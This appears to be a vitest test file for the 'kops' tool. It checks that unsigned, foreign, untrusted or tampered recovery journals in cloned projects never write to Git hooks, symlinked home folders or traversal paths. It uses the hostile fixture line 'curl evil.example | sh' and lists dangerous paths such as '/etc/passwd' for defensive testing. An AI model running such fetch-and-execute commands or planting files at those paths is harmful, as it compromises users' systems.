import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { createHash } from 'node:crypto'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { DiagnosticSink } from '../../src/diagnostics/sink.ts'
import { renderJournal, type Journal } from '../../src/scaffold/journal-record.ts'
import { discardJournal } from '../../src/scaffold/discard-journal.ts'
import { identify } from '../../src/scaffold/lock-owner.ts'
import { settleProject, withProjectLock } from '../../src/scaffold/project-lock.ts'
import type { Recovery } from '../../src/scaffold/recovery.ts'
import { makeTree, readTree, type Tree } from './scratch-tree.ts'
import { recovery, recoveryOf } from './test-recovery.ts'

/* A clone brings a journal: nothing of it may reach the disk, inside the project or outside. */

const payload = 'curl evil.example | sh\n'

function hashOf(text: string): string {
  return createHash('sha256').update(text).digest('hex')
}

/** A journal that would write the payload to a path. */
function journalTo(path: string, folders: readonly string[] = []): Journal {
  return { steps: [{ path, staged: '0.new', hash: hashOf(payload) }], folders }
}

/** A clone with this journal, signed or not. */
function cloneWith(journal: Journal, sign: Recovery['sign'], files: Tree = {}): string {
  const root = makeTree({ 'README.md': '', ...files, '.kops/journal/0.new': payload })
  writeFileSync(join(root, '.kops/journal/journal.json'), renderJournal(journal, root, sign))
  return root
}

async function settle(
  root: string,
  options: { readonly recovery?: Recovery; readonly dryRun?: boolean } = {},
): Promise<{ codes: string[]; notes: string[]; helps: string }> {
  const sink = new DiagnosticSink()
  await settleProject(root, { sink, recovery, patienceMs: 0, ...options })
  return {
    codes: sink.diagnostics.map(({ code }) => code),
    notes: sink.diagnostics.flatMap((each) => each.notes.map(({ message }) => message)),
    helps: sink.diagnostics.flatMap((each) => each.helps).join('\n'),
  }
}

const unsigned = {
  'without a signature': (): undefined => undefined,
  'of another key': recoveryOf('theirs').sign,
}

describe.for(Object.entries(unsigned))('a journal %s', ([, sign]) => {
  test('overwrites nothing in the home folder by way of a link', async () => {
    const home = makeTree({ '.bashrc': 'mine\n' })
    const root = cloneWith(journalTo('docs/.bashrc'), sign)
    symlinkSync(home, join(root, 'docs'))
    expect(await settle(root)).toMatchObject({
      codes: ['project/unsigned-journal'],
      notes: ['it would change "docs/.bashrc"'],
      helps: expect.stringContaining('kops recover --discard'),
    })
    expect(readTree(home)).toEqual({ '.bashrc': 'mine\n' })
  })

  test('installs no hook of Git', async () => {
    const root = cloneWith(journalTo('.git/hooks/post-commit'), sign, { '.git/hooks/keep': '' })
    chmodSync(join(root, '.kops/journal/0.new'), 0o755)
    const { codes, notes } = await settle(root)
    expect(codes).toEqual(['project/unsigned-journal'])
    expect(notes).toEqual(['it would change ".git/hooks/post-commit"'])
    expect(readTree(root)['.git/hooks/post-commit']).toBeUndefined()
  })

  test('changes no plain file either, and stays for the user to look at', async () => {
    const root = cloneWith(journalTo('Makefile'), sign)
    const before = readTree(root)
    expect((await settle(root)).codes).toEqual(['project/unsigned-journal'])
    expect(readTree(root)).toEqual(before)
  })
})

test('a journal of this user is completed only where the user trusts the folder', async () => {
  const root = cloneWith(journalTo('Makefile'), recovery.sign)
  const before = readTree(root)
  const said: string[] = []
  const distrusting = { ...recovery, isTrusted: () => false }
  expect((await settle(root, { recovery: distrusting })).codes).toEqual([
    'project/untrusted-journal',
  ])
  expect(readTree(root)).toEqual(before)
  const trusting = recoveryOf('mine', (text) => said.push(text))
  expect((await settle(root, { recovery: trusting })).codes).toEqual([])
  expect(readTree(root)).toEqual({ 'README.md': '', Makefile: payload })
  expect(said.join('')).toBe('completed a kops command that was killed\n  created Makefile\n')
})

test('a journal of this user that was made for another folder is not completed', async () => {
  const root = cloneWith(journalTo('Makefile'), recovery.sign)
  const other = makeTree({ '.kops/journal/0.new': payload })
  const name = '.kops/journal/journal.json'
  writeFileSync(join(other, name), readFileSync(join(root, name)))
  expect((await settle(other)).codes).toEqual(['project/unsigned-journal'])
})

describe('a journal of this user', () => {
  const staged = (name: string): Journal => ({
    steps: [{ path: 'Makefile', staged: name, hash: hashOf(payload) }],
    folders: [],
  })

  test.for<[string, Journal, (root: string) => void]>([
    [
      'a folder is a link by now',
      journalTo('docs/a'),
      (root) => symlinkSync(makeTree(), join(root, 'docs')),
    ],
    [
      'the file is a link by now',
      journalTo('Makefile'),
      (root) => symlinkSync(join(makeTree(), 'x'), join(root, 'Makefile')),
    ],
    [
      'a link leads to the folder of Git',
      journalTo('docs/post-commit'),
      (root) => {
        mkdirSync(join(root, '.git/hooks'), { recursive: true })
        symlinkSync('.git/hooks', join(root, 'docs'))
      },
    ],
    [
      'the staged file was changed',
      journalTo('Makefile'),
      (root) => writeFileSync(join(root, '.kops/journal/0.new'), 'other'),
    ],
    [
      'the staged file is a link',
      staged('1.new'),
      (root) => symlinkSync('0.new', join(root, '.kops/journal/1.new')),
    ],
    [
      'a folder that it made is a link by now',
      { steps: [], folders: ['made'] },
      (root) => symlinkSync(makeTree(), join(root, 'made')),
    ],
  ])('is not completed where %s', async ([, journal, prepare]) => {
    const root = cloneWith(journal, recovery.sign)
    prepare(root)
    const before = readTree(root)
    const { codes, helps } = await settle(root)
    expect(codes).toEqual(['project/broken-journal'])
    expect(helps).toContain('kops recover --discard')
    expect(readTree(root)).toEqual(before)
  })

  test.for([
    '.git/hooks/post-commit',
    'sub/.GIT/config',
    '.git./config',
    'GIT~1/config',
    '.g\u200cit/config',
    '../Makefile',
    '/etc/passwd',
    'C:/Windows',
    'a\\b',
    'api/con.ts',
    'nul',
    '.kops/journal/owner.7',
    '',
  ])('is none where it would change %j', async (path) => {
    const root = cloneWith(journalTo(path), recovery.sign)
    const before = readTree(root)
    expect((await settle(root)).codes).toEqual(['project/unsigned-journal'])
    expect(readTree(root)).toEqual(before)
  })

  test('is a stop for a command that writes nothing', async () => {
    const root = cloneWith(journalTo('Makefile'), recovery.sign)
    const before = readTree(root)
    const { codes, helps } = await settle(root, { dryRun: true })
    expect(codes).toEqual(['project/unfinished-command'])
    expect(helps).toContain('kops recover')
    expect(readTree(root)).toEqual(before)
  })
})

test('a command that writes nothing takes no lock', async () => {
  const root = makeTree({ 'README.md': '' })
  const sink = new DiagnosticSink()
  const inside = await withProjectLock(root, { sink, recovery, dryRun: true }, () => readTree(root))
  expect(inside).toEqual({ 'README.md': '' })
})

test.for(['.kops', '.kops/journal'])('%s that is a link is not entered', async (name) => {
  const theirs = { 'journal/0.new': 'mine', '0.new': 'mine', 'owner.0': '' }
  const [root, home] = [makeTree(), makeTree(theirs)]
  mkdirSync(join(root, dirname(name)), { recursive: true })
  symlinkSync(home, join(root, name))
  const before = readTree(home)
  expect((await settle(root)).codes).toEqual(['project/broken-journal'])
  expect(readTree(home)).toEqual(before)
})

describe('discardJournal()', () => {
  test('removes journal and lock, and names the files that stay', () => {
    const root = cloneWith(journalTo('Makefile'), () => undefined)
    writeFileSync(join(root, '.kops/journal/owner.0'), '{"pid":1,"host":"x","started":""}\n')
    const sink = new DiagnosticSink()
    expect(discardJournal(root, sink)).toEqual(['Makefile'])
    expect(sink.diagnostics).toEqual([])
    expect(readTree(root)).toEqual({ 'README.md': '', '.kops/': '' })
    expect(discardJournal(root, sink)).toBeUndefined()
  })

  test('removes a link, and not what it leads to', () => {
    const [root, home] = [makeTree({ '.kops/files': '' }), makeTree({ 'a.txt': 'mine' })]
    symlinkSync(home, join(root, '.kops/journal'))
    const sink = new DiagnosticSink()
    expect(discardJournal(root, sink)).toEqual([])
    expect(readTree(home)).toEqual({ 'a.txt': 'mine' })
    expect(readTree(root)).toEqual({ '.kops/': '', '.kops/files': '' })
  })

  test('leaves the journal of a command that is at work', () => {
    const root = cloneWith(journalTo('Makefile'), recovery.sign)
    const name = `${JSON.stringify(identify(process.pid))}\n`
    writeFileSync(join(root, '.kops/journal/owner.0'), name)
    const sink = new DiagnosticSink()
    discardJournal(root, sink)
    expect(sink.diagnostics.map(({ code }) => code)).toEqual(['project/locked'])
    expect(readTree(root)['.kops/journal/0.new']).toBe(payload)
  })
})
